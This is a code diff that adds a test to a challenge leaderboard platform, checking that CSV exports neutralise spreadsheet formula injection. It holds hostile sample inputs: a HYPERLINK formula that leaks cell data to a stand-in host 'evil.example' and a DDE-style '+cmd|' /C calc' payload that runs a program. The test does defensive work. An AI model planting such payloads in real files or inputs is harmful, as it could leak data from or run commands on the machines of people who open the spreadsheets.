@@ -290,3 +290,46 @@ def test_the_migration_makes_each_existing_teams_first_member_its_captain(databa
             assert s.execute(text("SELECT count(*) FROM challenge_team_members")).scalar() == 2
     finally:
         db.dispose()
+
+
+# -- CSV formula injection ------------------------------------------------------------------------------
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_csv_the_platform_writes_starts_a_cell_with_a_formula(app, client, live_server, tmp_path, capsys,
+                                                                  monkeypatch):
+    """Text a participant or host typed (method names, reasons, file names) that starts with = + - @ tab or CR
+    is neutralised (a leading ') in the API's leaderboard CSV and in every CSV the command line writes."""
+    import csv
+    import io
+
+    from deepsift.cli import main
+
+    h = host_challenge(app, client, tmp_path)
+    a = join(client, h.slug, register(client, "alice"), "Team A")
+    b = join(client, h.slug, register(client, "bob"), "Team B")
+    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"CoDE")'
+    sa = submit(client, h, a, csv_text(good_scores(h)), method_name=evil).json()
+    sb = submit(client, h, b, csv_text(good_scores(h, 0.3)), name="@SUM(1+1).csv", method_name="-2+3").json()
+    assert sa["method_name"] == evil  # stored and shown as typed: only CSV cells are neutralised
+    run_worker(app)
+    r = client.post(f"/api/challenges/{h.slug}/teams/Team B/disqualify",
+                    json={"disqualified": True, "reason": "+cmd|' /C calc'!A0"}, headers=h.host.auth)
+    assert r.status_code == 200, r.text
+    api_csv = client.get(f"/api/challenges/{h.slug}/phases/dev/leaderboard", params={"format": "csv"}).text
+    rows = list(csv.DictReader(io.StringIO(api_csv)))
+    assert {r["team"]: r["method"] for r in rows} == {"Team A": "'" + evil, "Team B": "'-2+3"}
+    assert [r["disqualified"] for r in rows if r["team"] == "Team B"] == ["'+cmd|' /C calc'!A0"]
+
+    monkeypatch.setenv("DEEPSIFT_CLIENT_CONFIG", str(tmp_path / "client.json"))
+    monkeypatch.setenv("DEEPSIFT_TOKEN", b.auth["Authorization"].split()[1])
+    srv = ["--server", live_server.url, "--challenge", h.slug, "--phase", "dev", "--format", "csv"]
+    capsys.readouterr()
+    assert main(["challenges", "leaderboard", *srv]) == 0
+    assert capsys.readouterr().out == api_csv  # one writer: the command line prints the API's CSV
+    assert main(["challenges", "status", *srv]) == 0
+    status = capsys.readouterr().out
+    assert [r["filename"] for r in csv.DictReader(io.StringIO(status))] == ["'@SUM(1+1).csv"]
+    for text in (api_csv, status):
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)], text
